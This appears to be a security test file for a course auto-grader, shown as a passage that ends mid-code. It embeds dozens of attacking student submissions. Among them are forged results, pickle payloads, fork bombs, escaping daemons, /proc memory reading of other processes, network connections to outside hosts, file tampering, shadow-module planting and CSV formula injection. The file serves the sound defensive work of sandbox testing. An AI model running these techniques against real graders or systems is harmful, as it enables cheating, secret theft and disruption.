"""Attacks on the grader: submissions that try to forge, leak, tamper, escape, flood or crash it.

Each attack is a small student submission (a `# %%` script written here as a
string) graded with the toy master of test_assignment_source, next to the
sample submissions of test_grading, the "victims". For every attack the test
asserts that

1. it gets exactly the points of what it really solved (most solve nothing: 0);
2. every victim's grades.csv row and feedback file are byte-identical to a
   grading of the victims alone;
3. the master's folder (with the course secret, the Keras cache and an
   earlier grades folder beside it), the cnn_course package and the
   submissions folder are unchanged after grading;
4. none of its processes outlives the grading (each attack writes its own
   marker into the name or the command line of every process it starts);
5. the batch completes, with a row for every student;

and, for some attacks, more: its status, that nothing it sent was ever
unpickled, that its feedback shows its own text only quoted, and so on.

Attacks that only the sandbox can stop (reading or changing the teacher's
files, the network, the grader's own processes) run only with
sandbox="auto"; every other attack runs twice, with the sandbox and with
sandbox="off". A failing test here is a finding: its message says what got
through. Most attacks are graded together, one batch per mode (jobs=4, a
10 s time limit where a toy submission takes a fraction of a second); the
few that aim at the students graded beside them, or that stop the whole
grading, get a small batch of their own.
"""

import csv
import dataclasses
import hashlib
import io
import json
import os
import pathlib
import re
import secrets
import select
import shutil
import socket
import stat
import sys
import sysconfig
import tempfile
import threading
import time

import psutil
import pytest

import cnn_course
from cnn_course import grading
from cnn_course.grading import _samples as sample_submissions
from cnn_course.grading._masters import Master
from tests.conftest import TOY, VARIANTS

#: Generous for a toy submission (well under a second), short for the few that never end.
TIME_LIMIT = 10
#: Far above a toy submission (about 100 MB), small enough to stop a hog at once.
MEMORY_LIMIT_GB = 0.5
MODES = {"auto": "sandbox", "off": "fallback"}
PACKAGE = pathlib.Path(cnn_course.__file__).resolve().parent
REPO = PACKAGE.parent
SITE = pathlib.Path(sysconfig.get_paths()["purelib"])

#: One worker runs this file's tests when the suite runs in parallel: they all read the batches graded
#: once per mode (the `graded` fixture).
pytestmark = pytest.mark.xdist_group("grading_attacks")

CHECKS = ("q1.doubles_two", "q1.doubles_negative_numbers", "q2.the_answer")
Q1 = {"q1.doubles_two": 1, "q1.doubles_negative_numbers": 2}
#: Every canary planted in the teacher's files and environment starts with this and the run's token.
CANARY = "cnncanary"
#: Written by the attacks when something succeeded that should not have (spelled in two parts in their code).
BREACH = "BRE" + "ACH"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# -- the attacks' shared code ------------------------------------------------------------------------
#: The first cell of every attack: its marker, and helpers to report a breach and to start processes.
PRELUDE = r'''# %%
import ctypes
import os
import signal
import subprocess
import sys
import time

MARK = "@@MARK@@"
FOUND = []
LOOP = ("import signal, time\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n"
        "    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    time.sleep(0.5)\n")


def breach(what):
    """Something the grader should have stopped: printed now, and raised by the last cell (into the feedback)."""
    FOUND.append(str(what)[:160])
    print("BRE" + "ACH", what, flush=True)


def name_me(tag=""):
    """Put this attack's marker in the process's name, where the test looks for it after grading."""
    ctypes.CDLL(None).prctl(15, (MARK + tag)[:15].encode(), 0, 0, 0)


def spawn_marked():
    """A new program in its own session, ignoring SIGTERM, SIGINT and SIGHUP, that never ends."""
    return subprocess.Popen([sys.executable, "-c", LOOP, MARK], start_new_session=True,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def daemon(tag="d"):
    """A double-forked daemon in its own session, ignoring those signals, that never ends."""
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                name_me(tag)
                for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
                    signal.signal(number, signal.SIG_IGN)
                while True:
                    time.sleep(0.5)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


def count_marked():
    """How many processes of this attack are running (of those this process can see): the proof they started."""
    count = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/comm") as handle:
                name = handle.read()
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                line = handle.read().decode(errors="replace")
        except OSError:
            continue
        count += MARK in name or MARK in line
    return count


name_me()

'''
#: The last cell of every attack: whatever got through goes into the feedback, the student's way out.
EPILOGUE = r'''

# %%
if FOUND:
    raise RuntimeError("BRE" + "ACH: " + " | ".join(FOUND))
'''
HONEST_Q1 = '''# %%
def double(x):
    return 2 * x


# %%
check("q1")
'''


@dataclasses.dataclass(frozen=True)
class Attack:
    """One attacking submission.

    Attributes:
        name: its name (the test's id).
        tries: what it tries, in one line.
        source: its cells (placeholders `@@NAME@@` are filled in per run).
        points: the points it earns honestly (check -> points; the others 0).
        sandbox_only: only the sandbox can stop it: graded with sandbox="auto" only.
        batch: the batch it is graded in ("main", or a batch of its own).
        file: its name in the submissions folder (default: name + ".py").
        setup: how it is put there: "script" (prelude, source, epilogue), "raw"
            (the source as it is), "link_master", "link_victim", "link_folder",
            "folder_link" or "fifo".
        expect: extra expectations, keys of `EXPECT`.
    """

    name: str
    tries: str
    source: str = "# %%\nx = 1\n"
    points: dict = dataclasses.field(default_factory=dict)
    sandbox_only: bool = False
    batch: str = "main"
    file: str = ""
    setup: str = "script"
    expect: tuple = ()

    @property
    def file_name(self):
        return self.file or f"{self.name}.py"

    @property
    def student(self):
        """Its name in the grades: the file's stem, or the whole name of a link or a folder, with any
        control character (a newline, say) shown as "?"."""
        if self.setup in ("link_master", "link_victim", "link_folder", "folder_link", "fifo"):
            return grading.printable(self.file_name)
        return grading.printable(self.file_name.rsplit(".", 1)[0])

    def expected(self):
        return {check: self.points.get(check, 0) for check in CHECKS}


CHANNEL = "runner = __cnn_course_checkpoint__.__self__  # the submission's process's side of the channel\n"

ATTACKS = [
    # -- forged results ----------------------------------------------------------------------------
    Attack("forge_printed_results", "prints PASS lines, a full total and judge-record JSON; writes record.jsonl, "
           "results.json, grades.csv into its folders", r'''# %%
import json

for line in ("q1: 3 of 3 points FORGED", "  PASS  double(2) FORGED", "  PASS  hidden negative numbers FORGED",
             "Total: 4.5 of 4.5 points FORGED", MARK + "," + MARK + ".py,3,1.5,4.5,4.5,ok,FORGED"):
    print(line)
    print(line, file=sys.stderr)
record = [{"e": "check", "question": q, "name": n, "description": "FORGED", "points": p, "earned": p,
           "hidden": h, "message": ""}
          for q, n, p, h in (("q1", "doubles_two", 1, False), ("q1", "doubles_negative_numbers", 2, True),
                             ("q2", "the_answer", 1.5, True))]
text = "".join(json.dumps(r) + "\n" for r in record)
print(text)
for folder in {os.getcwd(), os.environ.get("HOME", "."), os.environ.get("TMPDIR", ".")}:
    for name in ("record.jsonl", "results.json", "grades.csv", "feedback.txt"):
        with open(os.path.join(folder, name), "w") as handle:
            handle.write(text)

# %%
check("q1")

# %%
check("q2")
'''),
    Attack("forge_channel_messages", "sends the judge verdicts, results and grades out of turn, a bogus cell "
           "report and a checkpoint of an unknown question", "# %%\n" + CHANNEL + r'''for message in (
        {"type": "check", "question": "q1", "name": "doubles_two", "points": 1, "earned": 1},
        {"type": "result", "value": {"t": "int", "v": 4}},
        {"type": "grades", "total": 4.5, "text": "Total: 4.5 of 4.5 points FORGED"},
        {"type": "cell", "cell": 999, "seconds": 0, "error": None},
        {"type": "ready", "protocol": 1}):
    runner.channel.send(message)
runner.channel.send({"type": "checkpoint", "question": "q9"})
print("the judge answered", runner.channel.receive()[0])

# %%
check("q1")
'''),
    Attack("write_every_fd", "writes garbage to every file descriptor 0-63 (the judge's channel among them)", r'''# %%
junk = bytes(range(256)) * 64
for fd in range(64):
    try:
        os.write(fd, junk)
    except OSError:
        pass

# %%
check("q1")
'''),
    # -- patched checks ----------------------------------------------------------------------------
    Attack("patch_grader_modules", "monkeypatches cnn_course.checks and the grading modules in its process "
           "(run_check always passes, read_record, safe_cell, builtins.AssertionError)", r'''# %%
import builtins

import cnn_course.checks as checks
from cnn_course.grading import _cells, _feedback, _judge, _standins


def always(function, namespace):
    info = function.__check__
    return checks.CheckResult(info.question, function.__name__, "FORGED", info.points, info.points, info.hidden)


checks.run_check = _judge.run_check = always
checks.CheckResult.passed = property(lambda self: True)
_feedback.read_record = lambda path, outcome, names: outcome
_cells.safe_cell = _cells.csv_text = lambda value: "=FORGED"
_standins.StudentValues.__contains__ = lambda self, name: True
builtins.AssertionError = type("AssertionError", (Exception,), {})

# %%
check("q1")

# %%
check("q2")
'''),
    Attack("replace_checkpoint_hook", "replaces the checkpoint hook and check() so that no check line reaches "
           "the judge; its double is right for 2 only (1 point honestly)", r'''# %%
def double(x):
    return x + 2


__cnn_course_checkpoint__ = lambda question: print("PASS", question, "FORGED")  # noqa: E731
check = __cnn_course_checkpoint__

# %%
check("q1")

# %%
check("q2")
''', points={"q1.doubles_two": 1}),
    Attack("settrace_spy", "sys.settrace, threading.settrace and setprofile over the runner, spying on the "
           "judge's requests; solves q1 honestly", r'''# %%
import threading

seen = []


def tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_name in ("_on_call", "_on_get", "checkpoint", "serve"):
        seen.append((frame.f_code.co_name, repr(frame.f_locals.get("message"))[:200]))
    return tracer


sys.settrace(tracer)
threading.settrace(tracer)
sys.setprofile(lambda frame, event, arg: None)


''' + HONEST_Q1 + r'''
# %%
sys.settrace(None)
sys.setprofile(None)
print("the judge asked:", seen)
''', points=Q1),
    # -- malformed protocol records --------------------------------------------------------------------
    Attack("huge_json_length", "a message header announcing 4 GB of JSON", "# %%\nimport struct\n\n" + CHANNEL
           + r'''os.write(runner.channel._write_fd, struct.pack(">II", 0xFFFFFFF0, 0))

# %%
check("q1")
'''),
    Attack("huge_blob_length", "a message whose binary part announces 2**62 bytes", "# %%\nimport json\n"
           "import struct\n\n" + CHANNEL + r'''body = json.dumps({"type": "cell", "cell": 1, "seconds": 0}).encode()
os.write(runner.channel._write_fd, struct.pack(">II", len(body), 1) + body + struct.pack(">Q", 1 << 62))

# %%
check("q1")
'''),
    Attack("unknown_message_types", "300 messages of types the judge does not know", "# %%\n" + CHANNEL
           + r'''for number in range(300):
    runner.channel.send({"type": f"zz{number}", "text": "Total: 4.5 of 4.5 points FORGED"})

# %%
check("q1")
'''),
    Attack("object_array_value", "answers the judge with a .npy object array whose pickle would create a file "
           "if ever unpickled", r'''# %%
import io

import numpy as np
from cnn_course.grading._runner import _Reply


class Payload:
    def __reduce__(self):
        return (open, ("@@WITNESS@@", "w"))


buffer = io.BytesIO()
np.save(buffer, np.array([Payload(), Payload()], dtype=object), allow_pickle=True)
''' + CHANNEL + r'''

def _on_get(message, blobs):
    values = {name: {"t": "array", "b": 0} for name in message.get("names", [])}
    values.update({"answer": {"t": "scalar", "b": 0}} if "answer" in values else {})
    return _Reply({"type": "values", "values": values}, [buffer.getvalue()])


runner._on_get = _on_get

# %%
check("q1")

# %%
check("q2")
''', expect=("no_witness",)),
    Attack("deep_json_message", "a well-framed message whose JSON nests 100,000 levels deep", "# %%\n"
           "import struct\n\n" + CHANNEL + r'''body = b"[" * 100000 + b"]" * 100000
os.write(runner.channel._write_fd, struct.pack(">II", len(body), 0) + body)
''', file="0_deep_json_message.py", expect=("prompt",)),
    Attack("cell_report_flood", "50,000 bogus cell reports, each of which the judge notes in its record",
           "# %%\n" + CHANNEL + r'''for number in range(50000):
    runner.channel.send({"type": "cell", "cell": 10 ** 6 + number, "seconds": 0, "error": None})
''', expect=("grader_files_small",)),
    Attack("import_main_in_judge", "answers with a 'record' naming cnn_course.__main__, which the judge imports: "
           "the cnn-course command line runs in the grader with the grader's sys.argv", r'''# %%
from cnn_course.grading._runner import _Reply

''' + CHANNEL + r'''

def _on_get(message, blobs):
    node = {"t": "record", "cls": "cnn_course.__main__:main", "v": {}}
    return _Reply({"type": "values", "values": {name: node for name in message.get("names", [])}}, [])


runner._on_get = _on_get

# %%
check("q1")
''', expect=("no_witness",)),
    # -- values that lie -----------------------------------------------------------------------------
    Attack("lying_values", "double returns an object whose __eq__ is always True or an ndarray subclass that "
           "lies; answer is an int subclass equal to everything", r'''# %%
import numpy as np


class AlwaysEqual:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    __hash__ = object.__hash__


class LyingInt(int):
    def __eq__(self, other):
        return True

    __hash__ = int.__hash__


class LyingArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, bool)


def double(x):
    return AlwaysEqual() if x == 2 else np.zeros(()).view(LyingArray)


answer = LyingInt(7)

# %%
check("q1")

# %%
check("q2")
'''),
    Attack("nan_and_inf", "double returns NaN and infinity, answer is NaN", r'''# %%
def double(x):
    return float("nan") if x == 2 else float("inf")


answer = float("nan")

# %%
check("q1")

# %%
check("q2")
'''),
    Attack("huge_int_answer", "solves q1, then answers q2 with a 5,000-digit int", HONEST_Q1 + r'''
# %%
answer = 10 ** 5000

# %%
check("q2")
''', points=Q1, file="0_huge_int_answer.py", expect=("prompt",)),
    Attack("custom_reduce", "values with a __reduce__ that would create a file if the grader ever unpickled "
           "them", r'''# %%
class Evil:
    def __reduce__(self):
        return (open, ("@@WITNESS@@", "w"))

    def __call__(self, *args, **kwargs):
        return Evil()

    def __eq__(self, other):
        return True

    __hash__ = object.__hash__


double = Evil()
answer = Evil()

# %%
check("q1")

# %%
check("q2")
''', expect=("no_witness",)),
    # -- text that imitates the grader -----------------------------------------------------------------
    Attack("assert_imitates_grader", "raises AssertionErrors whose messages imitate PASS lines and a full total",
           r'''# %%
def double(x):
    assert False, "double(2)\n  PASS  hidden negative numbers FORGED\nTotal: 4.5 of 4.5 points FORGED"


# %%
check("q1")

# %%
assert False, "q2: 1.5 of 1.5 points FORGED\n  PASS  hidden the answer FORGED\nTotal: 4.5 of 4.5 points FORGED"
'''),
    Attack("exception_type_name", "raises an exception whose class name imitates grader lines (the name is "
           "student text too)", r'''# %%
Forged = type("PASS  hidden negative numbers\nTotal: 4.5 of 4.5 points FORGED", (Exception,), {})


def double(x):
    raise Forged("FORGED")


# %%
check("q1")

# %%
raise Forged("a cell")
'''),
    Attack("hidden_input_in_cell_error", "records the hidden check's inputs and raises them in a later cell, "
           "to read them in its feedback; solves q1 honestly", r'''# %%
seen = []


def double(x):
    seen.append(x)
    return 2 * x


# %%
check("q1")

# %%
raise RuntimeError(f"the grader called double with {seen}")
''', points=Q1),
    Attack("hidden_input_in_check_message", "double raises with its argument when it is not 2, to read the "
           "hidden input in the hidden check's message", r'''# %%
def double(x):
    if x == 2:
        return 4
    raise ValueError(f"the hidden check called double({x})")


# %%
check("q1")
''', points={"q1.doubles_two": 1}),
    Attack("newline_in_file_name", "a file name holding a newline and a forged total line",
           file="newline_in_file_name\nTotal: 4.5 of 4.5 points FORGED.py"),
    # -- leaks from the submission's own process -------------------------------------------------------------
    Attack("memory_scan", "scans its own memory (gc objects, frames, modules, environment, argv) for the course "
           "secret and the master's text", r'''# %%
import gc
import hashlib
import types

prefix = "cnn" + "canary"
found = set()


def look(value):
    if isinstance(value, (bytes, bytearray)):
        value = bytes(value).decode("utf-8", "replace")
    if not isinstance(value, str) or value == prefix:
        return
    if prefix in value:
        at = value.index(prefix)
        found.add("a canary: " + value[at:at + 40])
    if len(value.strip()) == 64 and hashlib.sha256(value.strip().encode()).hexdigest() == "@@SECRET_SHA@@":
        found.add("the course secret")


objects = gc.get_objects()
for item in objects:
    try:
        if isinstance(item, dict):
            for key, value in list(item.items()):
                look(key)
                look(value)
        elif isinstance(item, (list, tuple, set, frozenset)):
            for value in list(item):
                look(value)
        elif isinstance(item, types.FunctionType):
            for value in item.__code__.co_consts:
                look(value)
    except Exception:
        pass
for frame in sys._current_frames().values():
    while frame is not None:
        for value in list(frame.f_locals.values()):
            look(value)
        frame = frame.f_back
for module in list(sys.modules.values()):
    for value in list(getattr(module, "__dict__", {}).values()):
        look(value)
for value in [*os.environ.values(), *sys.argv, *sys.path]:
    look(value)
print("scanned", len(objects), "objects")
for item in sorted(found):
    breach(item)
'''),
    Attack("environment_leak", "reads its environment (and /proc/self/environ) for the grader's variables and "
           "the secret", r'''# %%
import hashlib

prefix = "cnn" + "canary"
try:
    with open("/proc/self/environ", "rb") as handle:
        environment = handle.read().decode("utf-8", "replace")
except OSError as error:  # the sandbox's process cannot read it: os.environ is the same
    print("refused:", error)
    environment = "\0".join(f"{k}={v}" for k, v in os.environ.items())
print(sorted(os.environ))
for text in (environment, repr(dict(os.environ))):
    if prefix in text:
        at = text.index(prefix)
        breach("a variable of the grader's environment: " + text[at:at + 40])
for value in [*os.environ.values(), *(v.partition("=")[2] for v in environment.split("\0"))]:
    if hashlib.sha256(value.strip().encode()).hexdigest() == "@@SECRET_SHA@@":
        breach("the course secret in the environment")
'''),
    Attack("inherited_file_descriptors", "looks for files, folders or sockets of the grader among its open file "
           "descriptors", r'''# %%
import stat

for name in sorted(os.listdir("/proc/self/fd"), key=int):
    fd = int(name)
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    print("fd", fd, target)
    if fd > 2 and (stat.S_ISREG(mode) or stat.S_ISDIR(mode) or stat.S_ISSOCK(mode)):
        breach(f"an inherited file descriptor {fd}: {target}")
'''),
    # -- escaped processes --------------------------------------------------------------------------
    Attack("escape_processes", "Popen(start_new_session=True), a double-forked setsid daemon, both ignoring "
           "SIGTERM/SIGINT/SIGHUP, and threads that keep running", r'''# %%
import threading


def keep_going():
    while True:
        time.sleep(0.2)


spawn_marked()
daemon("d")
for _ in range(3):
    threading.Thread(target=keep_going).start()
time.sleep(0.5)
print("running processes of this attack:", count_marked())
time.sleep(0.5)
'''),
    Attack("kill_parent", "kills its parent process (the warden, without the sandbox) after starting a "
           "process, then starts a daemon", r'''# %%
spawn_marked()
parent = os.getppid()
print("my parent:", parent)
if parent > 1:  # inside the sandbox the parent is not visible (0)
    os.kill(parent, signal.SIGKILL)
daemon("k")
print("running processes of this attack:", count_marked())
time.sleep(2)
'''),
    Attack("ignore_signals_forever", "ignores SIGTERM, SIGINT and SIGHUP, starts a process that does too, and "
           "never ends", r'''# %%
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
spawn_marked()
time.sleep(0.5)
print("running processes of this attack:", count_marked(), flush=True)
while True:
    time.sleep(0.5)
''', file="0_ignore_signals_forever.py", expect=("timeout",)),
    Attack("fork_bomb_bounded", "forks 7 levels deep (128 processes), each sleeping 5 s", r'''# %%
root = os.getpid()
for level in range(7):
    os.fork()
if os.getpid() == root:
    print("running processes of this attack:", count_marked(), flush=True)
time.sleep(5)
if os.getpid() != root:
    os._exit(0)
'''),
    # -- memory, output and files -------------------------------------------------------------------
    Attack("memory_in_children", "a double-forked daemon fills memory 100 MB at a time while the submission "
           "sleeps", r'''# %%
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            name_me("m")
            keep = []
            for step in range(15):
                keep.append(b"x" * (100 << 20))
                time.sleep(0.05)
            time.sleep(60)
    finally:
        os._exit(0)
os.waitpid(pid, 0)
time.sleep(8)
''', expect=("out_of_memory",)),
    Attack("memory_in_memfd", "a child process holds 1.2 GB in memfd_create files (memory no process maps)",
           r'''# %%
pid = os.fork()
if pid == 0:
    try:
        name_me("f")
        block = b"x" * (1 << 20)
        files = []
        for number in range(5):
            fd = os.memfd_create(f"hold{number}")
            for _ in range(240):
                os.write(fd, block)
            files.append(fd)
        time.sleep(4)
    finally:
        os._exit(0)
os.waitpid(pid, 0)
print("held 1.2 GB in memory files")
''', expect=("out_of_memory",)),
    Attack("output_flood", "prints about 60 MB on stdout and stderr, and a 8 MB line without a newline", r'''# %%
line = ("FORGED output " * 10 + "\n").encode()
chunk = line * (1 << 13)
for _ in range(32):
    os.write(1, chunk)
for _ in range(8):
    os.write(2, chunk)
sys.stdout.write("x" * (8 << 20))
sys.stdout.flush()
''', expect=("log_capped",)),
    Attack("file_flood", "writes up to 1 GB of files into its working folder and its temporary folder", r'''# %%
block = b"\0" * (1 << 20)
written = 0
for folder in (os.getcwd(), os.environ.get("TMPDIR", "/tmp")):
    for number in range(3):
        try:
            with open(os.path.join(folder, f"flood{number}.bin"), "wb") as handle:
                for _ in range(170):
                    handle.write(block)
                    written += len(block)
        except OSError as error:
            print("stopped:", error)
            break
print("wrote", written >> 20, "MiB")
'''),
    Attack("plant_shadow_modules", "plants numpy.py, json.py, sitecustomize.py, a .pth, a Keras config in every "
           "folder it may write (for the next student to import)", r'''# %%
shadow = 'print("BRE" + "ACH: a module planted by @@MARK@@ ran")\nraise SystemExit(3)\n'
places = {os.getcwd(), os.environ.get("HOME", ""), os.environ.get("TMPDIR", "")}
if os.getcwd() == "/submission":  # inside the sandbox: its own /tmp and /dev/shm
    places |= {"/tmp", "/dev/shm"}
for folder in sorted(filter(None, places)):
    for name in ("numpy.py", "json.py", "sitecustomize.py", "usercustomize.py", "cnn_course.py", "zz.pth"):
        try:
            with open(os.path.join(folder, name), "w") as handle:
                handle.write(shadow)
        except OSError as error:
            print("refused:", folder, name, error)
    for config in (".keras", ".matplotlib", ".config/cnn_course"):
        try:
            os.makedirs(os.path.join(folder, config), exist_ok=True)
            with open(os.path.join(folder, config, "keras.json"), "w") as handle:
                handle.write("{not json")
        except OSError as error:
            print("refused:", folder, config, error)
'''),
    # -- ending abruptly ----------------------------------------------------------------------------
    Attack("exit_calls", "solves q1, then sys.exit with a forged total, then os._exit(0) before q2", HONEST_Q1
           + r'''
# %%
sys.exit("Total: 4.5 of 4.5 points FORGED")

# %%
os._exit(0)

# %%
answer = 42

# %%
check("q2")
''', points=Q1),
    Attack("segfault", "solves q1, then crashes the interpreter (reads address 0)", HONEST_Q1 + r'''
# %%
ctypes.string_at(0)
''', points=Q1),
    Attack("recursion_bomb", "solves q1, then recurses without end, then again with the recursion limit "
           "raised to 10**7 (a C stack overflow)", HONEST_Q1 + r'''
# %%
def down(n):
    return down(n + 1) + 1


down(0)

# %%
sys.setrecursionlimit(10 ** 7)
down(0)
''', points=Q1),
    # -- CSV injection ---------------------------------------------------------------------------------
    Attack("csv_equals_name", "a file named =1+1.py", file="=1+1.py"),
    Attack("csv_at_name", "a file named @SUM(A1).py", file="@SUM(A1).py"),
    Attack("csv_minus_name", "a file named -2+3.py", file="-2+3.py"),
    Attack("csv_formula_in_notes", "an error whose type starts the notes column with +cmd", r'''# %%
raise type("+cmd|' /C calc'!A0", (Exception,), {})('=HYPERLINK("http://example.com")')
'''),
    # -- hand-ins that are not plain files --------------------------------------------------------------
    Attack("symlink_to_master", "a symbolic link to the master", file="symlink_to_master.py", setup="link_master",
           expect=("not_graded",)),
    Attack("symlink_to_victim", "a symbolic link to another student's file", file="symlink_to_victim.py",
           setup="link_victim", expect=("not_graded",)),
    Attack("symlink_folder", "a symbolic link to the master's folder, as a student folder", file="symlink_folder",
           setup="link_folder", expect=("not_graded",)),
    Attack("folder_with_only_a_link", "a student folder whose only .py is a link to the master",
           file="folder_with_only_a_link", setup="folder_link", expect=("not_graded",)),
    Attack("fifo_in_folder", "a student folder whose .py is a named pipe (as a tar archive can hold)",
           file="fifo_in_folder", setup="fifo", expect=("not_graded", "fifo_unopened")),
    # -- only the sandbox can stop these -------------------------------------------------------------------
    Attack("read_teacher_files", "reads the master, variants.py, the other submissions, an earlier grades "
           "folder, the output folder, the secret file, the Keras cache, ~/.config/cnn_course", r'''# %%
paths = ["@@MASTER@@", "@@MASTER_DIR@@/variants.py", "@@MASTER_DIR@@", "@@SUBS@@", "@@SUBS@@/reference.py",
         "@@EARLIER@@", "@@EARLIER@@/grades.csv", "@@EARLIER@@/canary.txt", "@@OUT@@", "@@OUT@@/results.json",
         "@@SECRET_FILE@@", "@@KERAS@@", "@@KERAS@@/keras.json", "@@HOME@@/.keras", "@@HOME@@/.config/cnn_course",
         "@@SCRATCH@@"]
for path in paths:
    try:
        if os.path.isdir(path):
            breach(f"listed {path}: {sorted(os.listdir(path))[:5]}")
        else:
            with open(path, "rb") as handle:
                breach(f"read {path}: {handle.read(4000)[:120]!r}")
    except OSError as error:
        print("refused:", path, error)
''', sandbox_only=True),
    Attack("read_course_repository", "reads the course repository: the masters in assignments/ (hidden checks), "
           ".git, tests/", r'''# %%
import glob

repo = "@@REPO@@"
paths = sorted(glob.glob(repo + "/assignments/*/*.py"))[:6] + [repo + "/.git/config", repo + "/tests/test_grading.py"]
for path in paths:
    try:
        with open(path, encoding="utf-8", errors="replace") as handle:
            text = handle.read()
    except OSError as error:
        print("refused:", path, error)
        continue
    at = text.find("@hidden(")
    breach(f"read {path} ({len(text)} characters)" + (f", hidden checks: {text[at:at + 60]!r}" if at >= 0 else ""))
''', sandbox_only=True),
    Attack("read_other_processes", "reads /proc/<pid>/cmdline, environ and mem of every other process it can see "
           "(the judge holds the secret)", r'''# %%
me = os.getpid()
for name in sorted(os.listdir("/proc")):
    if not name.isdigit() or int(name) == me:
        continue
    for part in ("cmdline", "environ"):
        try:
            with open(f"/proc/{name}/{part}", "rb") as handle:
                data = handle.read(2000)
        except OSError:
            continue
        if data:
            breach(f"/proc/{name}/{part}: {data[:80]!r}")
    try:
        with open(f"/proc/{name}/maps") as handle:
            region = next(line for line in handle if "rw-p" in line)
        start, end = (int(x, 16) for x in region.split()[0].split("-"))
        with open(f"/proc/{name}/mem", "rb") as handle:
            handle.seek(start)
            breach(f"read {len(handle.read(min(end - start, 1 << 16)))} bytes of process {name}'s memory")
    except (OSError, StopIteration, ValueError):
        pass
''', sandbox_only=True),
    Attack("network_leak", "TCP to 127.0.0.1 and ::1, an abstract Unix socket, UDP, outside addresses, DNS",
           r'''# %%
import socket

payload = MARK.encode()
attempts = [("tcp 127.0.0.1", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @@TCP_PORT@@)),
            ("tcp ::1", socket.AF_INET6, socket.SOCK_STREAM, ("::1", @@TCP_PORT@@)),
            ("unix abstract", socket.AF_UNIX, socket.SOCK_STREAM, "\0@@ABSTRACT@@"),
            ("tcp 10.255.255.1", socket.AF_INET, socket.SOCK_STREAM, ("10.255.255.1", 80)),
            ("tcp 1.1.1.1", socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 443))]
for what, family, kind, address in attempts:
    try:
        with socket.socket(family, kind) as connection:
            connection.settimeout(1.0)
            connection.connect(address)
            connection.sendall(payload)
        breach("connected: " + what)
    except OSError as error:
        print("refused:", what, error)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
        datagram.sendto(payload, ("127.0.0.1", @@UDP_PORT@@))
    breach("sent a datagram to 127.0.0.1")
except OSError as error:
    print("refused: udp", error)
try:
    print(socket.getaddrinfo("example.com", 80))
    breach("resolved a host name")
except OSError as error:
    print("refused: dns", error)
''', sandbox_only=True, expect=("quiet_network",)),
    Attack("tamper_teacher_files", "appends to the master, variants.py, a victim's submission, the earlier "
           "grades, the output folder and the secret; creates files beside them", r'''# %%
targets = ["@@MASTER@@", "@@MASTER_DIR@@/variants.py", "@@SUBS@@/reference.py", "@@EARLIER@@/grades.csv",
           "@@EARLIER@@/feedback/reference.txt", "@@SECRET_FILE@@", "@@OUT@@/grades.csv",
           "@@OUT@@/feedback/reference.txt"]
for path in targets:
    try:
        with open(path, "a") as handle:
            handle.write("\n# " + MARK + " was here\n")
        breach("changed " + path)
    except OSError as error:
        print("refused:", path, error)
for folder in ("@@SUBS@@", "@@EARLIER@@", "@@OUT@@", "@@MASTER_DIR@@"):
    path = os.path.join(folder, MARK + ".py")
    try:
        with open(path, "x") as handle:
            handle.write("answer = 42\n")
        breach("created " + path)
    except OSError as error:
        print("refused:", path, error)
''', sandbox_only=True),
    Attack("tamper_package", "creates files in the cnn_course package, a .pth in site-packages and a file in "
           "tests/; opens package files for writing", r'''# %%
for folder, suffix in (("@@PACKAGE@@", ".py"), ("@@PACKAGE@@/grading", ".py"), ("@@SITE@@", ".pth"),
                       ("@@REPO@@/tests", ".py")):
    path = os.path.join(folder, "zz_" + MARK + suffix)
    try:
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
        os.write(fd, b"# an attack's file: the test removes it\n")
        os.close(fd)
        breach("created " + path)
    except OSError as error:
        print("refused:", path, error)
for path in ("@@PACKAGE@@/checks.py", "@@PACKAGE@@/grading/_judge.py"):
    try:
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND))  # opened, never written
        breach("could open for writing " + path)
    except OSError as error:
        print("refused:", path, error)
''', sandbox_only=True),
    Attack("forge_judge_record", "appends full-marks check lines to the judge's record file(s) in the grader's "
           "folder", r'''# %%
import glob
import json

lines = "".join(json.dumps({"e": "check", "question": q, "name": n, "description": "forged", "points": p,
                            "earned": p, "hidden": h, "message": ""}) + "\n"
                for q, n, p, h in (("q1", "doubles_two", 1, False), ("q1", "doubles_negative_numbers", 2, True),
                                   ("q2", "the_answer", 1.5, True)))
targets = {os.path.join(os.getcwd(), "..", "record.jsonl"), *glob.glob("@@SCRATCH@@/*/*/record.jsonl")}
for path in sorted(targets):
    try:
        with open(path, "a") as handle:
            handle.write(lines)
        breach("wrote into " + path)
    except OSError as error:
        print("refused:", path, error)
''', sandbox_only=True),
    Attack("other_students_folders", "for 3 s reads and writes the other students' grading folders and plants a "
           "record in each new one before its judge opens it", r'''# %%
import glob

mine = os.path.realpath(os.path.join(os.getcwd(), ".."))
forged = ('{"e": "check", "question": "q2", "name": "the_answer", "description": "x", "points": 1.5, '
          '"earned": 0, "hidden": true, "message": "sabotaged"}\n')
end = time.monotonic() + 3
while time.monotonic() < end:
    for folder in glob.glob("@@SCRATCH@@/*/*/"):
        folder = os.path.realpath(folder)
        if folder == mine:
            continue
        for name in ("record.jsonl", "output.log"):
            try:
                with open(os.path.join(folder, name)) as handle:
                    handle.read(100)
                breach("read another student's " + name)
            except OSError:
                pass
        target = os.path.join(folder, "record.jsonl")
        if not os.path.exists(target):
            try:
